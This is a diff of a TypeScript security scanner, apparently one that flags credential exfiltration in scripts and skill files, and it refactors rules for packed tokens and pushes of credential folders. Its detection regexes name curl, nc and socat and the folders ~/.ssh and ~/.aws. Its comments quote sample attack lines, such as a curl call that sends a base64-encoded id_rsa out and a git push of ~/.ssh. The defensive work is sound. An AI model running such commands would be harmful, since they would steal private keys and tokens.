@@ -6,6 +6,7 @@ import { findAll, proseOf } from './match.ts';
 import {
   SECRET_PATH_SOURCE,
   cloudDirWithVariableHits,
+  CREDENTIAL_FOLDERS,
   credentialNamesReadInLoop,
   fenceAt,
   fencedBlocks,
@@ -17,6 +18,7 @@ import {
 import { insideHtmlComment } from '../html-comments.ts';
 import { WELL_KNOWN_HOSTS } from './network.ts';
 import { firstUrlIn } from './hosts.ts';
+import { endOfLinesAfter } from '../line-table.ts';
 import { ARGV_GAP, execRegex, execRegexIn, matchAllRegex, onePerLine, testRegex, testRegexIn } from './context.ts';
 
 const ALL_TEXT: Scope[] = ['skill-md', 'markdown', 'script', 'text'];
@@ -107,11 +109,7 @@ function envHarvestHits(text: string, from: number, to: number): { index: number
 function nearbyLines(text: string, index: number, radius: number): string {
   let start = index;
   for (let i = 0; i <= radius && start > 0; i++) start = text.lastIndexOf('\n', start - 2) + 1;
-  let end = index;
-  for (let i = 0; i <= radius && end < text.length; i++) {
-    const next = text.indexOf('\n', end + 1);
-    end = next < 0 ? text.length : next;
-  }
+  const end = endOfLinesAfter(text, index, radius + 1);
   return text.slice(Math.max(start, index - 1000), Math.min(end, index + 1000));
 }
 
@@ -180,12 +178,10 @@ function codeSources(file: FileView, from: number, to: number): Hit[] {
     if (hits.length >= 10) break;
   }
   // The tokens of several services packed into one encoded value (shell).
-  if (file.kind === 'script' && file.language === 'sh') {
-    for (const c of credentialCollections(file, from, to)) if (c.message?.startsWith('Packs')) hits.push({ index: c.index, length: c.length, label: 'several credentials packed together' });
-  }
+  for (const c of packedCredentials(file, from, to)) hits.push({ index: c.index, length: c.length, label: 'several credentials packed together' });
   // Credential files named in a list and read through a folder joined with a variable.
   if (file.kind === 'script') {
-    for (const h of [...cloudDirWithVariableHits(file), ...credentialNamesReadInLoop(file, ANY_CREDENTIAL_FOLDER)]) {
+    for (const h of [...cloudDirWithVariableHits(file), ...credentialNamesReadInLoop(file, CREDENTIAL_FOLDERS)]) {
       if (h.index >= from && h.index < to) hits.push({ index: h.index, length: h.length, label: h.message });
     }
   }
@@ -398,7 +394,6 @@ const REMOTE_COPY = /\b(?:scp|rsync)\b([^\n]{0,300})\s[\w.-]+@[\w.-]+:/;
 const PIPE_TO_UPLOAD = /\|\s*(?:sudo\s+)?(?:curl|wget|nc|ncat|netcat|socat|http|xh|Invoke-WebRequest|Invoke-RestMethod|iwr|irm)\b/;
 // A URL built from a command substitution: curl "https://x/?d=$(cat ~/.ssh/id_rsa | base64)".
 const GIT_HOOK_FILE = /(?:^|\/)(?:pre-commit|post-commit|commit-msg|prepare-commit-msg|pre-push|post-checkout|post-merge|pre-rebase|post-rewrite)$/;
-const ANY_CREDENTIAL_FOLDER = /["'\x60/\\]\.(?:aws|kube|docker|azure|cargo|gem|config[/\\]gh|composer)\b/;
 const REPOSITORY_CONTENT = /\bgit\s+(?:show|diff|format-patch|archive|bundle\s+create|log\b[^|\n]{0,60}\s(?:-p|--patch)\b)/;
 const URL_WITH_SUBSTITUTION = /https?:\/\/[^\s"'`]*\$\(/;
 
@@ -832,6 +827,24 @@ const SHELL_ENV_DUMP = /(?:^|[;&|]\s*|\$\(\s*)(?:printenv|env|set)\s*(?:>\s*\S|\
 const ENV_GREP_SECRETS = /(?:^|[;&]\s*|\$\(\s*)(?:printenv|env)\s*\|\s*grep\s+(?:-\w+\s+)*["']?[^"'\n]{0,40}(?:KEY|TOKEN|SECRET|PASS|CRED)/gim;
 
 /** Literals that gather several secret environment variables at once ({"AWS_...": ..., "GITHUB_TOKEN": ...}). */
+/**
+ * The secret variables a piece of code names, when they belong to at least two services
+ * (GITHUB_TOKEN and NPM_TOKEN, not API_KEY and API_SECRET of one); else undefined.
+ */
+function credentialsOfServices(code: string): Set<string> | undefined {
+  const names = new Set<string>();
+  for (const e of code.matchAll(CODE_SECRET_ENV)) {
+    const name = e[1] ?? e[2] ?? e[3];
+    if (SECRET_NAME_SHAPE.test(name)) names.add(name);
+  }
+  const vendors = new Set([...names].map((n) => n.split('_').find((p) => p.length >= 2 && !GENERIC_NAME_PARTS.has(p)) ?? n));
+  return names.size >= 2 && vendors.size >= 2 ? names : undefined;
+}
+
+function listed(names: Set<string>): string {
+  return `${[...names].slice(0, 3).join(', ')}${names.size > 3 ? ', …' : ''}`;
+}
+
 function credentialCollections(file: FileView, from: number, to: number): RuleMatch[] {
   const region = file.text.slice(from, to);
   const out: RuleMatch[] = [];
@@ -843,27 +856,23 @@ function credentialCollections(file: FileView, from: number, to: number): RuleMa
       const close = region.slice(m.index + m[0].length, m.index + m[0].length + 3000).search(/\n[ \t]*[}\])]/);
       if (close >= 0) rhs += region.slice(m.index + m[0].length, m.index + m[0].length + close);
     }
-    const names = new Set<string>();
-    for (const e of rhs.matchAll(CODE_SECRET_ENV)) {
-      const name = e[1] ?? e[2] ?? e[3];
-      if (SECRET_NAME_SHAPE.test(name)) names.add(name);
-    }
-    const vendors = new Set([...names].map((n) => n.split('_').find((p) => p.length >= 2 && !GENERIC_NAME_PARTS.has(p)) ?? n));
-    if (names.size >= 2 && vendors.size >= 2) {
-      out.push({ index: from + m.index, length: m[0].length, message: `Collects ${names.size} credentials of different services (${[...names].slice(0, 3).join(', ')}${names.size > 3 ? ', …' : ''})` });
-    }
+    const names = credentialsOfServices(rhs);
+    if (names) out.push({ index: from + m.index, length: m[0].length, message: `Collects ${names.size} credentials of different services (${listed(names)})` });
   }
-  // A shell line that packs the tokens of several services into one encoded blob:
-  // printf '%s|%s' "$GITHUB_TOKEN" "$NPM_TOKEN" | base64.
-  if (file.kind === 'script' && file.language === 'sh') {
-    for (const { start, line } of logicalLines(file.text, from, to)) {
-      if (!PIPED_TO_ENCODER.test(line)) continue;
-      const names = new Set([...line.matchAll(CODE_SECRET_ENV)].map((e) => e[1] ?? e[2] ?? e[3]).filter((n) => SECRET_NAME_SHAPE.test(n)));
-      const vendors = new Set([...names].map((n) => n.split('_').find((p) => p.length >= 2 && !GENERIC_NAME_PARTS.has(p)) ?? n));
-      if (names.size >= 2 && vendors.size >= 2) {
-        out.push({ index: start + Math.max(0, line.search(/\S/)), length: Math.min(line.trimEnd().length, 200), message: `Packs ${names.size} credentials of different services into one encoded value (${[...names].slice(0, 3).join(', ')}${names.size > 3 ? ', …' : ''})` });
-      }
-    }
+  return [...out, ...packedCredentials(file, from, to)];
+}
+
+/**
+ * A shell line that packs the tokens of several services into one encoded blob:
+ * printf '%s|%s' "$GITHUB_TOKEN" "$NPM_TOKEN" | base64. Also an EXF-06 source.
+ */
+function packedCredentials(file: FileView, from: number, to: number): RuleMatch[] {
+  if (file.kind !== 'script' || file.language !== 'sh') return [];
+  const out: RuleMatch[] = [];
+  for (const { start, line } of logicalLines(file.text, from, to)) {
+    if (!PIPED_TO_ENCODER.test(line)) continue;
+    const names = credentialsOfServices(line);
+    if (names) out.push({ index: start + Math.max(0, line.search(/\S/)), length: Math.min(line.trimEnd().length, 200), message: `Packs ${names.size} credentials of different services into one encoded value (${listed(names)})` });
   }
   return out;
 }
@@ -1001,7 +1010,10 @@ function wholeRepositoryPushes(file: FileView): RuleMatch[] {
 
 // A credential folder made into a repository and pushed: `cd ~/.ssh && git add -A && git push`,
 // `git -C ~/.aws push`, subprocess.run(["git", "push", ...], cwd=SSH) with SSH = "~/.ssh".
-const CREDENTIAL_FOLDER_LITERAL = /["'\x60]?(?:~|\$\{?HOME\}?)[/\\]\.(?:ssh|aws|gnupg|kube|docker|azure|password-store)\b/;
+const HOME_CREDENTIAL_FOLDER = String.raw`(?:~|\$\{?HOME\}?)[/\\]\.(?:ssh|aws|gnupg|kube|docker|azure|password-store)\b`;
+const CREDENTIAL_FOLDER_LITERAL = new RegExp(String.raw`["'\x60]?${HOME_CREDENTIAL_FOLDER}`);
+const FOLDER_ASSIGNMENT = new RegExp(String.raw`^[ \t]*([A-Za-z_]\w*)\s*=\s*[^\n]{0,60}?${HOME_CREDENTIAL_FOLDER}[^\n]*$`, 'gm');
+const GIT_IN_FOLDER = new RegExp(String.raw`\bcd\s+["']?${HOME_CREDENTIAL_FOLDER}|\bgit\s+-C\s+["']?${HOME_CREDENTIAL_FOLDER}`);
 const GIT_PUSH_CALL = /\bgit\s+(?:-C\s+\S+\s+)?push\b|["']git["']\s*,\s*["']push["']/;
 
 function credentialFolderPushes(file: FileView): RuleMatch[] {
@@ -1009,9 +1021,9 @@ function credentialFolderPushes(file: FileView): RuleMatch[] {
   const text = file.text;
   // The folder is where git runs: cd into it, git -C it, or a cwd= bound to a name holding it.
   const folderNames = new Set<string>();
-  for (const a of text.matchAll(/^[ \t]*([A-Za-z_]\w*)\s*=\s*[^\n]{0,60}?(?:~|\$\{?HOME\}?)[/\\]\.(?:ssh|aws|gnupg|kube|docker|azure|password-store)\b[^\n]*$/gm)) folderNames.add(a[1]);
+  for (const a of text.matchAll(FOLDER_ASSIGNMENT)) folderNames.add(a[1]);
   const inFolder =
-    /\bcd\s+["']?(?:~|\$\{?HOME\}?)[/\\]\.(?:ssh|aws|gnupg|kube|docker|azure|password-store)\b|\bgit\s+-C\s+["']?(?:~|\$\{?HOME\}?)[/\\]\.(?:ssh|aws|gnupg|kube|docker|azure|password-store)\b/.test(text) ||
+    GIT_IN_FOLDER.test(text) ||
     [...folderNames].some((n) => new RegExp(String.raw`\bcwd\s*[=:]\s*${n}\b|\bgit\s+-C\s+["']?\$\{?${n}\b|\bcd\s+["']?\$\{?${n}\b`).test(text));
   if (!inFolder) return [];
   const push = GIT_PUSH_CALL.exec(text)!;
